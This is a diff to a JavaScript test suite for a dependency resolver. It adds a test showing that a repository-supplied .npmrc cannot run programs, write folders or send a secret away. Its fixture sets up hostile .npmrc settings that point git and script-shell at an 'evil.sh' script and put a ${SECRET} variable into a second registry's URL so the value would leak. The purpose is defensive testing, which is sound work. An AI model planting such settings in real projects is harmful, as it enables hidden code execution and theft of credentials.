@@ -99,6 +99,38 @@ const APP = {
   'package-lock.json': lockOf({ name: 'app' }),
 };
 
+describe('settings that come with the repository', () => {
+  test('run no program, write no folder and send no variable away', async () => {
+    registry = await startRegistry(PACKAGES);
+    const other = await startRegistry(PACKAGES);
+    const ran = join(folder, 'ran');
+    writeFileSync(join(folder, 'evil.sh'), `#!/bin/sh\ntouch ${ran}\nexit 1\n`);
+    chmodSync(join(folder, 'evil.sh'), 0o755);
+    const npmrc = [
+      `git=${folder}/evil.sh`,
+      `script-shell=${folder}/evil.sh`,
+      `cache=${folder}/written`,
+      `logs-dir=${folder}/logs`,
+      `registry=${other.url}\${SECRET}/`,
+    ];
+    const result = await resolve(
+      {
+        ...APP,
+        'package.json': json({ name: 'app', dependencies: { zz: 'git+https://127.0.0.1:9/x/y.git' } }),
+        '.npmrc': npmrc.join('\n'),
+      },
+      [dependency('tiny-leaf', '^1.0.0')],
+      { env: npmEnv(registry.url, { SECRET: 'wJalrXUtnFEMI' }) },
+    );
+    await other.close();
+    // The git dependency cannot be had; that is told, and nothing else happened.
+    expect(result.refused).toContain('npm');
+    expect(result.refused).not.toContain('wJalrXUtnFEMI');
+    expect(other.asked).toEqual([]);
+    for (const path of ['ran', 'written', 'logs']) expect(existsSync(join(folder, path)), path).toBe(false);
+  });
+});
+
 describe('package.json alone', () => {
   const files = {
     'web/package.json': json({ dependencies: { zod: '^3.22.4', next: '14.0.4', local: 'file:../x' } }),
@@ -485,7 +517,7 @@ describe('other managers', () => {
     const env = fakeManager('pnpm', 'cat apps/web/package.json pnpm-workspace.yaml >> pnpm-lock.yaml');
     const result = await resolve(files, [dependency('tiny-leaf', '^1.0.0', { dir: 'apps/web' })], { env });
     expect(Object.keys(result.files ?? {})).toEqual(['apps/web/package.json', 'pnpm-lock.yaml']);
-    expect(result.files?.['pnpm-lock.yaml']).toContain("- 'apps/*'");
+    expect(result.files?.['pnpm-lock.yaml']).toContain('"apps/*"');
   });
 });
 
